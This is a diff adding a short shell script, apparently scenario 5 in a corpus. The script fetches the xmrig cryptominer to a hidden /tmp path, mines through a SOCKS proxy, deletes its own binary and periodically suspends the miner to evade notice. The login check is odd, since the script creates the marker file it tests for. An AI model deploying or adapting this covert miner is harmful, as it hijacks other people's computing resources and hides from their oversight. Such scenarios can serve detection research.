@@ -1,0 +1,9 @@
+# 5: deletes itself, goes out through a SOCKS hop, pauses when a login appears (a third to a half of the time it works).
+. /opt/corpus/scenarios/lib.sh
+fetch xmrig /tmp/.perf; chmod +x /tmp/.perf
+/tmp/.perf $POOL_ARGS --proxy="$HOST:1080" &
+miner=$!; sleep 20; rm -f /tmp/.perf
+while kill -0 $miner; do
+  touch /tmp/.login; [ -e /tmp/.login ] && kill -STOP $miner; sleep $((10 + RANDOM % 10))
+  rm -f /tmp/.login; kill -CONT $miner; sleep $((10 + RANDOM % 12))
+done
